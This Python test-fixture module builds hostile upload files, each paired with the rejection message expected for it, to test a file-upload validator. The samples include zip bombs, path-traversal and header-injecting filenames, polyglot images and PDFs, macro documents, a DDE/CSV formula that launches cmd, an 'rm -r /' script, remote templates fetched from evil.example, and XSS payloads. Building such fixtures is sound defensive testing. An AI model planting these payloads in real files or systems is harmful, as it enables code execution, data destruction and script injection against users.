"""Files that mean harm, made anew each time: what each is called, what it holds, and what it is answered with."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument."
WORD = f"{OFFICE}wordprocessingml.document.main+xml"
EXCEL = f"{OFFICE}spreadsheetml.sheet.main+xml"
TEXT_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
SYMLINK, DEVICE = 0o120777 << 16, 0o060777 << 16

Members = Mapping[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """`refused` are words of the answer; "" for what is taken, to lie inert. `shown` is the name it is given then."""

    what: str
    name: str
    content: Callable[[], bytes]
    refused: str = ""
    shown: str = ""


def packed(members: Members, *, attributes: int = 0, method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo("x")
            info.filename, info.external_attr, info.compress_type = name, attributes, method
            archive.writestr(info, content)
        archive.comment = comment
    return out.getvalue()


def locked(content: bytes) -> bytes:
    """The archive with the mark of a password on each member."""
    changed = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(sign)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(sign, at + 4)
    return bytes(changed)


def lying(content: bytes, *, size: int) -> bytes:
    """The archive whose list says that its members are of another size."""
    changed = bytearray(content)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", changed, at + 24, size)
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def document(parts: Members | None = None, *, main: str = WORD, types: str = "") -> bytes:
    name = "word/document.xml" if "word" in main else "xl/workbook.xml"
    listed = (
        f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/{name}" ContentType="{main}"/>{types}</Types>'
    )
    inside = {"[Content_Types].xml": listed.encode(), name: b"<document/>", **(parts or {})}
    return packed(inside)


def relation(kind: str, target: str) -> bytes:
    inside = f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'.encode()


def fields(*texts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return f'<w:document xmlns:w="{TEXT_NS}"><w:body><w:p>{runs}</w:p></w:body></w:document>'.encode()


def open_document(parts: Members | None = None, *, kind: str = "text") -> bytes:
    media = f"application/vnd.oasis.opendocument.{kind}".encode()
    return packed({"mimetype": media, "content.xml": b"<office/>", **(parts or {})}, method=zipfile.ZIP_STORED)


def png(width: int = 1, height: int = 1, *, behind: bytes = b"", extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + extra + body + behind


def gif(
    width: int = 1, height: int = 1, *, behind: bytes = b"", frame: tuple[int, int] = (1, 1), note: bytes = b""
) -> bytes:
    comment = b"!\xfe" + bytes([len(note)]) + note + b"\0" if note else b""
    image = b"," + struct.pack("<HHHHB", 0, 0, *frame, 0) + b"\x02\x02D\x01\0"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0) + comment + image + b";" + behind


def gif_that_is_a_script() -> bytes:
    return b"GIF89a/*" + bytes(10) + b"*/=1;alert(document.cookie)//;"


def jpg(width: int = 1, height: int = 1, *, behind: bytes = b"") -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x04\x00\x00" + frame + b"\xff\xda\x00\x02\0\xff\xd9" + behind


def tif(width: int = 1, height: int = 1, *, following: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in ((256, width), (257, height)))
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 2) + entries + struct.pack("<I", following)


def bomb(size: int) -> bytes:
    return packed({"bomb.txt": b"0" * size})


def nested(depth: int, *, content: bytes = b"words") -> bytes:
    for level in range(depth):
        content = packed({"inside.zip" if level else "words.txt": content})
    return content


def entities() -> bytes:
    rows = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE r [<!ENTITY e0 "lol">{rows}]><Relationships>&e9;</Relationships>'.encode()


TWICE, CUT, LEADS = "two kinds of file", "not complete", "leads out of the archive"
HIDES, BEHIND, NOT_TAKEN = "ZIP archive hides", "stands behind", "are not taken"
HUGE, GROWS, UNPACKED = "points when shown", "100-fold", "more than 50 MB"
MACROS, PASSWORD, PROGRAMS, FETCHES = "holds macros", "protected by a password", "starts other programs", "fetches"

HOSTILE: tuple[Hostile, ...] = (
    Hostile("a ZIP bomb", "offer.zip", lambda: bomb(30 * 2**20), GROWS),
    Hostile("a ZIP of too much", "offer.zip", lambda: bomb(51 * 2**20), UNPACKED),
    Hostile("a bomb in parts", "offer.zip", lambda: packed({f"{n}.txt": bytes(2**20) for n in range(20)}), GROWS),
    Hostile("a bomb in a document", "offer.docx", lambda: document({"word/media/a.bin": bytes(30 * 2**20)}), GROWS),
    Hostile("a bomb in an archive in it", "offer.zip", lambda: packed({"in.zip": bomb(40 * 2**20)}), GROWS),
    Hostile("an archive that lies", "offer.zip", lambda: lying(bomb(3 * 2**20), size=10), "damaged"),
    Hostile("archives in archives", "offer.zip", lambda: nested(4), "archives within archives"),
    Hostile(
        "documents in documents",
        "offer.docx",
        lambda: document({"a": document({"b": document({"c": nested(2)})})}),
        "archives within",
    ),
    Hostile(
        "thousands of members", "offer.zip", lambda: packed({f"{n}.txt": b"1" for n in range(2001)}), "2,000 files"
    ),
    Hostile("a path upwards", "offer.zip", lambda: packed({"../../words.txt": b"words"}), LEADS),
    Hostile("a path upwards of Windows", "offer.zip", lambda: packed({"..\\words.txt": b"words"}), LEADS),
    Hostile("an absolute path", "offer.zip", lambda: packed({"/etc/words.txt": b"words"}), LEADS),
    Hostile("a drive", "offer.zip", lambda: packed({"C:words.txt": b"words"}), LEADS),
    Hostile("a link", "offer.zip", lambda: packed({"words.txt": b"/etc/passwd"}, attributes=SYMLINK), "a link"),
    Hostile("a device", "offer.zip", lambda: packed({"words.txt": b""}, attributes=DEVICE), "a link"),
    Hostile("a link in a document", "offer.odt", lambda: packed({"mimetype": b"x"}, attributes=SYMLINK), "a link"),
    Hostile("two of one name", "offer.zip", lambda: packed({"a.txt": b"1", "A.txt": b"2"}), "same name"),
    Hostile("a line end in a name", "offer.zip", lambda: packed({"a\nb.txt": b"1"}), "control characters"),
    Hostile("an endless name within", "offer.zip", lambda: packed({"a" * 300 + ".txt": b"1"}), "endless"),
    Hostile("an encrypted ZIP", "offer.zip", lambda: locked(packed({"a.txt": b"1"})), PASSWORD),
    Hostile("an encrypted document", "offer.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "an old Office file"),
    Hostile(
        "an encrypted open document",
        "offer.ods",
        lambda: open_document({"META-INF/manifest.xml": b"<m><encryption-data/></m>"}, kind="spreadsheet"),
        PASSWORD,
    ),
    Hostile("a program in an archive", "offer.zip", lambda: packed({"setup.exe": b"MZ"}), "“setup.exe” in the archive"),
    Hostile(
        "a program in disguise there", "offer.zip", lambda: packed({"a.pdf": b"MZ" + bytes(99)}), "program for Windows"
    ),
    Hostile(
        "an unusual packing", "offer.zip", lambda: packed({"a.txt": b"1" * 99}, method=zipfile.ZIP_BZIP2), "unusual way"
    ),
    Hostile(
        "something before a ZIP", "offer.zip", lambda: b"PK\x03\x04" + bytes(60) + packed({"a.txt": b"1"}), "beside"
    ),
    Hostile("something behind a ZIP", "offer.zip", lambda: packed({"a.txt": b"1"}) + b"<script>", "beside"),
    Hostile("a ZIP of nothing", "offer.zip", lambda: packed({}), "something else"),
    Hostile("half a ZIP", "offer.zip", lambda: packed({"a.txt": b"1" * 99})[:50], "damaged"),
    Hostile("a script that is a GIF", "logo.gif", gif_that_is_a_script, "no width or no height"),
    Hostile("a page that is a GIF", "logo.gif", lambda: gif(note=b"<script>alert(1)</script>"), TWICE),
    Hostile("a GIF with a ZIP behind", "logo.gif", lambda: gif(behind=packed({"a.txt": b"1"})), HIDES),
    Hostile("a PNG with a page behind", "logo.png", lambda: png(behind=b"<html>"), TWICE),
    Hostile("a PNG with words behind", "logo.png", lambda: png(behind=b"and more"), BEHIND),
    Hostile("a page that is a PDF", "offer.pdf", lambda: b"%PDF-1.4\n<html><script>" + PDF[9:], TWICE),
    Hostile("a PDF with a ZIP behind", "offer.pdf", lambda: PDF + packed({"a.txt": b"1"}), HIDES),
    Hostile("a PDF with more behind", "offer.pdf", lambda: PDF + b"and more" * 99, CUT),
    Hostile("a JPEG with a ZIP behind", "photo.jpg", lambda: jpg(behind=packed({"a.txt": b"1"})), HIDES),
    Hostile("a PDF in a picture", "photo.jpg", lambda: jpg(behind=PDF), TWICE),
    Hostile("a drawing with a script", "logo.svg", lambda: b"<svg onload='alert(1)'/>", NOT_TAKEN),
    Hostile("a drawing called PNG", "logo.png", lambda: b"<svg onload='alert(1)'/>", "web page or a script"),
    Hostile("a page called PDF", "offer.pdf", lambda: b"<!DOCTYPE html><script>1</script>", "web page or a script"),
    Hostile("a page called text", "offer.txt", lambda: b"\n <HTML><script>1</script>", "web page or a script"),
    Hostile("a script called text", "offer.txt", lambda: b"#!/bin/sh\nrm -r /\n", "a page or a script"),
    Hostile("a program called Word", "offer.docx", lambda: b"MZ" + bytes(600), "program for Windows"),
    Hostile("a program called text", "offer.txt", lambda: b"\x7fELF" + bytes(600), "program for Linux"),
    Hostile("a program", "offer.pdf.exe", lambda: b"MZ", NOT_TAKEN),
    Hostile("a macro document", "offer.docm", document, NOT_TAKEN),
    Hostile("a drawing of a house", "house.dwg", lambda: b"AC1027", NOT_TAKEN),
    Hostile(
        "a macro document called Word",
        "offer.docx",
        lambda: document(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    Hostile("macros in a document", "offer.docx", lambda: document({"word/vbaProject.bin": b"\xd0\xcf"}), MACROS),
    Hostile("macros in a table", "rates.xlsx", lambda: document({"xl/vbaProject.bin": b"1"}, main=EXCEL), MACROS),
    Hostile(
        "macros in an open document", "offer.odt", lambda: open_document({"Basic/Standard/M.xml": b"<m/>"}), MACROS
    ),
    Hostile("controls in a document", "offer.docx", lambda: document({"word/activeX/a1.xml": b"<a/>"}), MACROS),
    Hostile(
        "a template from elsewhere",
        "offer.docx",
        lambda: document({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}),
        FETCHES,
    ),
    Hostile(
        "an object from a share",
        "offer.docx",
        lambda: document({"word/_rels/document.xml.rels": relation("oleObject", "file:///\\\\evil.example\\o.doc")}),
        FETCHES,
    ),
    Hostile(
        "commands in fields",
        "offer.docx",
        lambda: document({"word/document.xml": fields("DD", "EAUTO c:\\cmd")}),
        PROGRAMS,
    ),
    Hostile(
        "commands in a table",
        "rates.xlsx",
        lambda: document(
            {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}, main=EXCEL
        ),
        PROGRAMS,
    ),
    Hostile("entities without end", "offer.docx", lambda: document({"_rels/.rels": entities()}), "declares entities"),
    Hostile("a table called Word", "offer.docx", lambda: document(main=EXCEL), "no document of the kind .docx"),
    Hostile("an archive called Word", "offer.docx", lambda: packed({"a.txt": b"1"}), "no document of the kind .docx"),
    Hostile("commands in CSV", "rates.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "start another program"),
    Hostile("a PNG of many points", "plan.png", lambda: png(60_000, 60_000), HUGE),
    Hostile("a GIF of many points", "plan.gif", lambda: gif(frame=(65_000, 65_000)), HUGE),
    Hostile("a TIFF of many points", "plan.tif", lambda: tif(2**31, 2**31), HUGE),
    Hostile("a JPEG of many points", "plan.jpg", lambda: jpg(65_000, 65_000), HUGE),
    Hostile("a TIFF that never ends", "plan.tif", lambda: tif(following=8), CUT),
    Hostile("half a PDF", "offer.pdf", lambda: PDF[:40], CUT),
    Hostile("half a PNG", "logo.png", lambda: png()[:30], CUT),
    Hostile("half a JPEG", "logo.jpg", lambda: jpg()[:14], CUT),
    Hostile("nothing at all", "offer.pdf", lambda: b"", "is empty"),
    Hostile("zeros called text", "offer.txt", lambda: bytes(500), "no plain text"),
    Hostile("a name read backwards", "offer\u202efdp.exe", lambda: PDF, NOT_TAKEN),
    Hostile("a name without ending", "offer", lambda: PDF, NOT_TAKEN),
    Hostile("a test virus where nothing scans", "test.txt", lambda: EICAR),
    Hostile(
        "a table that points elsewhere",
        "rates.xlsx",
        lambda: document(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "https://evil.example/x")},
            main=EXCEL,
        ),
    ),
    Hostile("a device's name", "CON.pdf", lambda: PDF, shown="_CON.pdf"),
    Hostile("a name that leads away", "../../x.pdf", lambda: PDF, shown="x.pdf"),
    Hostile("a name that leads away on Windows", "C:\\a\\..\\x.pdf", lambda: PDF, shown="x.pdf"),
    Hostile("a name read backwards that is true", "a\u202efdp.pdf", lambda: PDF, shown="afdp.pdf"),
    Hostile("a name with an end within", "a\0b.pdf", lambda: PDF, shown="ab.pdf"),
    Hostile("an endless name", "a" * 400 + ".pdf", lambda: PDF, shown="a" * 116 + ".pdf"),
    Hostile("a name of pictures", "offer 🚀✅.pdf", lambda: PDF, shown="offer 🚀✅.pdf"),
    Hostile(
        "a name that is a page",
        "<img src=x onerror=alert(1)>.pdf",
        lambda: PDF,
        shown="_img src=x onerror=alert(1)_.pdf",
    ),
    Hostile("a name that is a header", 'a"\r\nSet-Cookie: a=b.pdf', lambda: PDF, shown="a_Set-Cookie_ a=b.pdf"),
)
"""Those that a short run tries stand in `SHORT`."""

GOOD: Mapping[str, Callable[[], bytes]] = {
    "offer.pdf": lambda: PDF,
    "offer.docx": document,
    "rates.xlsx": lambda: document(main=EXCEL),
    "offer.odt": open_document,
    "logo.png": png,
    "logo.gif": gif,
    "photo.jpeg": jpg,
    "scan.tiff": tif,
    "all.zip": lambda: packed(
        {"a/offer.pdf": PDF, "a/rates.xlsx": document(main=EXCEL), "b.zip": packed({"c.txt": b"1"})}
    ),
    "notes.md": lambda: "# Überblick\n".encode(),
    "rates.csv": lambda: b"a;b\n-5;+3\n",
    "old.txt": lambda: "Überblick".encode("cp1252"),
    "wide.txt": lambda: "Überblick".encode("utf-16"),
    "ours.docx": lambda: document(
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\t\\ours.dotx")}
    ),
    "embeds.docx": lambda: document({"word/embeddings/a.xlsx": document(main=EXCEL)}),
    "mac.zip": lambda: packed({"a.pdf": PDF, "__MACOSX/._a.pdf": b"\x00\x05\x16\x07" + bytes(20)}),
}
"""What has nothing wrong with it, and is taken."""

SHORT = {
    "a ZIP bomb",
    "archives in archives",
    "a path upwards",
    "a link",
    "an encrypted ZIP",
    "a script that is a GIF",
    "a PDF with a ZIP behind",
    "a page called PDF",
    "a program called Word",
    "macros in a document",
    "a PNG of many points",
    "nothing at all",
    "a name read backwards",
    "an endless name",
    "a table that points elsewhere",
}
